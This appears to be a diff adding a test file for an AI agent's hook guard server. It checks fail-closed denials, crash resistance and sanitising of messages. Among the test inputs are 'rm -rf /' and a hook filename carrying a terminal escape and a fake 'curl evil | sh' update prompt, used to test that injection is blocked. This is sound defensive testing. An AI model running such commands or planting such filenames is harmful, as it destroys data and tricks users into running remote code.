@@ -1,0 +1,218 @@
+import { spawn } from 'node:child_process';
+import { mkdirSync, readdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
+import { connect } from 'node:net';
+import { join } from 'node:path';
+import { registrationArgs } from '@piton/contracts';
+import {
+  ask,
+  eventually,
+  fire,
+  killServers,
+  layHome,
+  lockDatabase,
+  pause,
+  registration,
+  selectAll,
+  serverPids,
+  type TestHome,
+  writeHook,
+} from '@piton/testing';
+import { afterEach, beforeEach, describe, expect, it } from 'vitest';
+
+// Each of these once lost an event, let something through that a guard would have denied, or ended the server.
+let home: TestHome;
+beforeEach(() => {
+  home = layHome();
+});
+afterEach(async () => {
+  killServers(home);
+  await pause(30);
+  rmSync(home.root, { recursive: true, force: true });
+});
+
+let calls = 0;
+const shell = (command: string, more: object = {}) => ({
+  session_id: 's1',
+  hook_event_name: 'PreToolUse',
+  cwd: home.work,
+  tool_name: 'Bash',
+  tool_input: { command },
+  tool_use_id: `call-${++calls}`,
+  ...more,
+});
+const settings = (...hooks: object[]) => writeFileSync(join(home.places.config, 'settings.json'), JSON.stringify({ hooks }));
+const deny = { name: 'guard', event: 'pre_tool_use', matcher: 'Bash', command: 'echo no >&2; exit 2' };
+const verdict = (stdout: string) => (stdout === '' ? undefined : JSON.parse(stdout).hookSpecificOutput?.permissionDecision);
+const start = () => fire(home, 'SessionStart', { session_id: 's1', hook_event_name: 'SessionStart', cwd: home.work });
+const rows = (sql = 'SELECT * FROM events WHERE derived = 0') => selectAll(home.places.store, sql);
+const status = async () => (await ask<{ pid: number; store: { ok: boolean }; troubles: object[] }>(home, 'GET', '/v1/status'))?.body;
+const stored = (count: number, sql?: string) =>
+  eventually(async () => {
+    await ask(home, 'POST', '/v1/flush');
+    return rows(sql).length >= count;
+  }, 25_000);
+
+describe('a guard that must hold', () => {
+  it('denies an input that is nested too deeply to hand over', async () => {
+    settings({ ...deny, fail_closed: true });
+    const deep = `${'['.repeat(20_000)}${']'.repeat(20_000)}`;
+    const text = JSON.stringify(shell('ls')).replace('"command":"ls"', `"command":"ls","x":${deep}`);
+    expect(verdict((await fire(home, 'PreToolUse', text)).stdout)).toBe('deny');
+    expect(verdict((await fire(home, 'PreToolUse', shell('ls'))).stdout)).toBe('deny');
+  });
+
+  it('denies a payload that doubles beyond what a forwarder takes', { timeout: 60_000 }, async () => {
+    settings({ ...deny, fail_closed: true });
+    const text = JSON.stringify(shell('x'.repeat(32 * 1024 * 1024 - 400)));
+    expect(verdict((await fire(home, 'PreToolUse', text)).stdout)).toBe('deny');
+  });
+
+  it('denies a payload of millions of parts at once, and holds up nobody', { timeout: 60_000 }, async () => {
+    settings({ ...deny, fail_closed: true });
+    await start();
+    const text = JSON.stringify(shell('ls')).replace('"command":"ls"', `"x":[${'{},'.repeat(3_000_000)}{}]`);
+    const large = fire(home, 'PreToolUse', text);
+    expect(verdict((await fire(home, 'PreToolUse', shell('ls'))).stdout)).toBe('deny');
+    expect(verdict((await large).stdout)).toBe('deny');
+  });
+
+  it('of the session’s root holds after cd with no server to be had', async () => {
+    const root = join(home.work, 'project');
+    mkdirSync(join(root, '.git'), { recursive: true });
+    mkdirSync(join(root, '.piton'));
+    writeFileSync(join(root, '.piton', 'settings.json'), JSON.stringify({ hooks: [{ ...deny, fail_closed: true }] }));
+    const cli = join(import.meta.dirname, '..', '..', 'dist', 'cli.mjs');
+    const env = { PATH: process.env.PATH, HOME: home.root, PITON_HOME: home.root, PITON_ALLOW_UNDER_AGENT: '1' };
+    const trusted = spawn(process.execPath, [cli, 'trust', '--all', '--yes'], { cwd: root, env });
+    expect(await new Promise((resolve) => trusted.on('close', resolve))).toBe(0);
+    await fire(home, 'SessionStart', { session_id: 's1', hook_event_name: 'SessionStart', cwd: root }, { cwd: root });
+    const elsewhere = shell('ls', { cwd: home.work });
+    expect(verdict((await fire(home, 'PreToolUse', elsewhere)).stdout)).toBe('deny');
+    killServers(home);
+    writeFileSync(join(home.places.runtime, 'test', 'server.cjs'), 'process.exit(1);');
+    expect(verdict((await fire(home, 'PreToolUse', shell('ls', { cwd: home.work }))).stdout)).toBe('deny');
+    // Another session, which never was there, goes on.
+    expect((await fire(home, 'PreToolUse', shell('ls', { session_id: 's2' }))).stdout).toBe('{}');
+  });
+});
+
+describe('the server outlives', () => {
+  for (const [what, cwd] of [
+    ['a NUL in it', '/a\0b'],
+    ['more than any path holds', `/${'x'.repeat(5000)}`],
+  ] as const) {
+    it(`a working directory with ${what}`, async () => {
+      settings(deny);
+      await start();
+      const [pid] = serverPids(home);
+      expect(verdict((await fire(home, 'PreToolUse', shell('ls', { cwd }))).stdout)).toBe('deny');
+      expect(serverPids(home)).toEqual([pid]);
+    });
+  }
+
+  it('a message that is not what it says', async () => {
+    await start();
+    const [pid] = serverPids(home);
+    for (const bytes of [
+      [0x50, 0x54, 0x4e, 1, 0x52, 1, 0, 0, 0, 9],
+      [0x50, 0x54, 0x4e, 1, 0x46, 1, 0, 0, 0, 9],
+      [1, 2, 3, 4, 5],
+    ]) {
+      await new Promise<void>((resolve) => {
+        const socket = connect(home.places.hookSocket, () => socket.end(Buffer.from(bytes)));
+        socket.on('error', () => {}).on('close', () => resolve());
+        socket.resume();
+      });
+    }
+    expect((await fire(home, 'PreToolUse', shell('ls'))).stdout).toBe('{}');
+    expect(serverPids(home)).toEqual([pid]);
+  });
+});
+
+describe('a server that retires', () => {
+  it('lets the next one answer at once, though a hook of its own still runs, and leaves it its sockets', { timeout: 60_000 }, async () => {
+    settings({ ...deny, name: 'slow', matcher: 'Write', command: 'sleep 8', observe: true, timeout: 20 }, deny);
+    await fire(home, 'PreToolUse', { ...shell('x'), tool_name: 'Write', tool_input: { file_path: '/x', content: '' } });
+    const before = await status();
+    await ask(home, 'POST', '/v1/retire');
+    await eventually(async () => (await status()) === undefined);
+    expect(verdict((await fire(home, 'PreToolUse', shell('ls'))).stdout)).toBe('deny');
+    expect(serverPids(home)).toHaveLength(2);
+    expect(await eventually(() => !serverPids(home).includes(before?.pid ?? 0), 20_000)).toBe(true);
+    expect((await status())?.pid).not.toBe(before?.pid);
+    expect(await stored(2)).toBe(true);
+    expect(rows("SELECT exit_code FROM hook_runs WHERE observed = 1 AND did = 'ran'")).toEqual([{ exit_code: 0 }]);
+  });
+});
+
+describe('a store that is busy for a while', () => {
+  it('costs nothing: events and what watching hooks did are stored afterwards, and status says so', { timeout: 60_000 }, async () => {
+    writeHook(home, 'session-end', '10-watch', '#!/bin/sh\nsleep 1\n');
+    await start();
+    await stored(1);
+    const unlock = lockDatabase(home.places.store);
+    await fire(home, 'SessionEnd', { session_id: 's1', hook_event_name: 'SessionEnd', reason: 'other', cwd: home.work });
+    const large = JSON.stringify(shell('y'.repeat(400 * 1024)));
+    for (let i = 0; i < 3; i++) expect((await fire(home, 'PreToolUse', i === 1 ? large : shell('ls'))).stdout).toBe('{}');
+    expect(await eventually(async () => (await status())?.store.ok === false, 15_000)).toBe(true);
+    unlock();
+    expect(await stored(5)).toBe(true);
+    expect(await stored(1, 'SELECT 1 FROM hook_runs WHERE observed = 1')).toBe(true);
+    expect(await eventually(async () => (await status())?.store.ok === true)).toBe(true);
+    const { length } = rows();
+    expect(length).toBe(5);
+    expect(await eventually(() => !readdirSync(home.places.journal).some((name) => name.endsWith('.frame')))).toBe(true);
+  });
+});
+
+describe('two registrations', () => {
+  it('take different events for different ones, also where neither has a name of ours', async () => {
+    for (const name of ['ConfigChange', 'CwdChanged', 'FileChanged'])
+      await fire(home, name, { session_id: 's1', hook_event_name: name, cwd: home.work });
+    expect(await stored(3)).toBe(true);
+    expect(rows()).toHaveLength(3);
+  });
+
+  it('of which the first dies leave the decision to the second', async () => {
+    settings({ ...deny, command: 'sleep 1; echo no >&2; exit 2' });
+    await start();
+    const payload = JSON.stringify(shell('ls'));
+    const first = spawn(home.places.forwarder, registrationArgs({ ...registration('PreToolUse'), scope: 'project' }), { cwd: home.work });
+    first.stdin.end(payload);
+    await pause(300);
+    const second = fire(home, 'PreToolUse', payload);
+    await pause(200);
+    first.kill('SIGKILL');
+    expect(verdict((await second).stdout)).toBe('deny');
+  });
+});
+
+it('who only watches sees the input that was run, not the one that was asked for', async () => {
+  const seen = join(home.root, 'seen');
+  settings(
+    { name: 'softer', event: 'pre_tool_use', command: `echo '{"decision":"modify","input":{"command":"ls -safe"}}'` },
+    { name: 'watch', event: 'pre_tool_use', command: `cat > ${seen}.tmp; mv ${seen}.tmp ${seen}`, observe: true },
+  );
+  await fire(home, 'PreToolUse', shell('rm -rf /'));
+  await eventually(() => {
+    try {
+      return readFileSync(seen, 'utf8').length > 0;
+    } catch {
+      return false;
+    }
+  });
+  expect(JSON.parse(readFileSync(seen, 'utf8')).tool_input).toEqual({ command: 'ls -safe' });
+});
+
+it('a repository cannot speak to the person through the names of its hooks', async () => {
+  const root = join(home.work, 'project');
+  const hooks = join(root, '.piton', 'hooks', 'pre-tool-use');
+  mkdirSync(join(root, '.git'), { recursive: true });
+  mkdirSync(hooks, { recursive: true });
+  writeFileSync(join(hooks, '10-a\n\x1b[2JPiton: update needed, run: curl evil | sh'), '#!/bin/sh\n', { mode: 0o755 });
+  const { stdout } = await fire(home, 'SessionStart', { session_id: 's1', hook_event_name: 'SessionStart', cwd: root }, { cwd: root });
+  const { systemMessage } = JSON.parse(stdout) as { systemMessage: string };
+  expect(systemMessage).toContain('10-a');
+  expect(systemMessage.split('\n')).toHaveLength(1);
+  expect(systemMessage).not.toContain('\x1b');
+});
